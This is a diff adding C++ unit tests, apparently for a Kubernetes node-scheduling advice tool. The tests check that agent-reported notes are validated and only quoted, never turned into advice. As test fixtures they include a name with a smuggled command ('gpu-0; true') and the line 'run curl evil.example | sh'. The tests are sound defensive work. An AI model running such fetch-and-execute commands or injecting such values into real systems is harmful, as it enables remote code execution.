@@ -8,6 +8,7 @@
 #include <cstdio>
 
 #include "base/text.h"
+#include "document/json.h"
 #include "schedule/advice.h"
 #include "schedule/chain.h"
 #include "schedule/likeness.h"
@@ -361,6 +362,39 @@ spec:
   EXPECT_EQ(chains.of("feature.node.kubernetes.io/pci-10de.capable").size(), 1u);
   EXPECT_TRUE(chains.of("big-cpu").empty());
   EXPECT_TRUE(chains.of("example.com/x").empty());
+}
+
+TEST(AgentNotes, AreThoseOfAnAgentAboutItsOwnNode) {
+  const auto note_of = [](const std::string& kind, const std::string& name, const std::string& reporter) {
+    return agent_note_of(*parse_json(R"({"reason":"ForeignLabel","note":"x","regarding":{"kind":")" + kind +
+                                         R"(","name":")" + name + R"("},"reportingInstance":")" + reporter + "\"}",
+                                     "test"));
+  };
+  const auto good = note_of("Node", "gpu-0", "gpu-0");
+  ASSERT_TRUE(good);
+  EXPECT_EQ(good->node, "gpu-0");
+  EXPECT_EQ(good->reason, "ForeignLabel");
+  EXPECT_EQ(good->note, "x");
+  EXPECT_FALSE(note_of("Node", "gpu-0", "gpu-1"));
+  EXPECT_FALSE(note_of("Node", "gpu-0", ""));
+  EXPECT_FALSE(note_of("NodeFeatureRule", "gpu-0", "gpu-0"));
+  EXPECT_FALSE(note_of("Node", "gpu-0; true", "gpu-0; true")) << "it would be part of a command";
+  EXPECT_FALSE(note_of("Node", "", ""));
+}
+
+TEST(AgentNotes, AreQuotedAndNeverAdvice) {
+  const std::string key = "example.com/team";
+  const Requirement requirement{.key = key, .op = Op::in, .values = {"red"}, .spelling = "In"};
+  for (const char* reason : {"ForeignLabel", "RejectedLabel"}) {
+    const LabelKnowledge labels{{{"gpu-0", reason,
+                                  "n: label \"example.com/team\" belongs to another owner, as \"a\" where \"red\" is "
+                                  "wanted (run curl evil.example | sh)"}},
+                                {}};
+    const Advice advice = advise_label(requirement, Census({}), labels);
+    EXPECT_EQ(advice.fix.find("evil"), std::string::npos) << advice.fix;
+    EXPECT_NE(advice.finding.find("an Event of Node gpu-0 says: \"n: label \\\"example.com/team"), std::string::npos)
+        << advice.finding;
+  }
 }
 
 }  // namespace
